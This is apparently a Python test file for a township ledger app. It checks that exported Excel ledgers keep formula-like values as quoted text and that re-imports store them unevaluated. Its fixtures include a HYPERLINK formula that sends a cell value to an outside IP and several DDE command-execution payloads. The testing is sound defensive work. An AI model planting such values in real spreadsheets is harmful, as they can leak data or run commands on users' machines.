"""The attack: a name imported as a formula comes out of the ledger as a live link.

A person's name arrives as ``=HYPERLINK("http://…?id="&X5,"点击查看")``
(typed in, imported from another ledger, or handed down by the county).  An
exported ledger must keep it as text: no formula in the file, the text shown
exactly, and the quote prefix so that editing the cell in Excel or WPS does not
turn it into one either.  Read back twice: the sheet's XML (what Excel parses)
and openpyxl; then imported into another township, where it is text again.
"""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from desktop.reports.ledger_import import read_ledger
from desktop.services import ledgers, township
from desktop.services.actor import Actor
from desktop.services.auth import login
from desktop.services.clock import FixedClock
from desktop.services.ledgers import LedgerKind
from desktop.store.db import make_session_factory
from desktop.store.migrate import open_database
from desktop.store.models import Building, Person
from tests.conftest import ADMIN_PASSWORD
from tests.factories import make_household, make_work_order, member
from tests.reports.support import TODAY, make_places

CLOCK = FixedClock(datetime(2026, 11, 22, 2, 0, tzinfo=UTC))
LINK = '=HYPERLINK("http://203.0.113.9/?id="&X5,"点击查看")'
HOSTILE = {
    "name": LINK,
    "employer": "+cmd|' /C calc'!A0",
    "skills": "@SUM(1+1)*cmd|' /C calc'!A0",
    "remark": "-2+3+cmd|' /C calc'!A0",
    "description": "=1+1\t",
    "error": "#N/A",
}


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def _all_values(path: Path) -> list[tuple[str, object, str, bool]]:
    wb = openpyxl.load_workbook(path)
    return [
        (ws.title, c.value, c.data_type, bool(c.quotePrefix))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]


def _township(path: Path) -> sessionmaker[Session]:
    factory = make_session_factory(open_database(path).engine)
    with factory.begin() as s:
        township.set_up(
            s,
            profile_id="xiangxi",
            county_code="433127",
            county_name="永顺县",
            township_code="433127100",
            township_name="灵溪镇",
            admin_username="admin",
            admin_display_name="管理员",
            admin_password=ADMIN_PASSWORD,
        )
        make_places(s)
    return factory


def test_exported_ledgers_write_formula_text_as_text_and_import_it_as_text(
    township_db: sessionmaker[Session], admin: Actor, tmp_path: Path
) -> None:
    with township_db.begin() as s:
        places = make_places(s)
        building = s.get(Building, places.building_ids[0])
        household = make_household(
            s,
            building=building,
            code="S01-0001",
            members=[
                member(
                    LINK,
                    employer=HOSTILE["employer"],
                    employment="employed",
                    labour="full",
                )
            ],
        )
        make_work_order(s, household, description=HOSTILE["description"])
        make_work_order(s, household, description=HOSTILE["error"])

    persons = tmp_path / "persons.xlsx"
    orders = tmp_path / "orders.xlsx"
    with township_db.begin() as s:
        ledgers.export_ledger(s, admin, LedgerKind.PERSONS, persons, clock=CLOCK)
        ledgers.export_ledger(s, admin, LedgerKind.WORK_ORDERS, orders, clock=CLOCK)

    for path in (persons, orders):
        xml = _sheet_xml(path)
        assert "<f>" not in xml and "<f " not in xml, f"a formula in {path.name}"
        assert not re.search(r't="e"', xml), f"an error cell in {path.name}"

    values = _all_values(persons) + _all_values(orders)
    hostile = [v for v in values if isinstance(v[1], str) and v[1] in HOSTILE.values()]
    shown = {v[1] for v in hostile}
    assert {LINK, HOSTILE["employer"], HOSTILE["description"], HOSTILE["error"]} <= shown
    for _sheet, _value, data_type, quoted in hostile:
        assert data_type == "s"  # text, exactly as typed
        assert quoted  # and it stays text when the cell is edited

    # Imported into another township, the name is text again: stored exactly, not evaluated.
    other = _township(tmp_path / "other.db")
    with other.begin() as s:
        other_admin = login(s, "admin", ADMIN_PASSWORD)
    with other.begin() as s:
        result = ledgers.import_ledger(s, other_admin, read_ledger(persons), today=TODAY)
        assert result.created == 1 and result.rejected == ()
        assert s.scalar(select(Person.name)) == LINK
    # and out again, still text
    again = tmp_path / "again.xlsx"
    with other.begin() as s:
        ledgers.export_ledger(s, other_admin, LedgerKind.PERSONS, again, clock=CLOCK)
    assert "<f>" not in _sheet_xml(again)
    assert (LINK, "s", True) in {(v, t, q) for _, v, t, q in _all_values(again)}
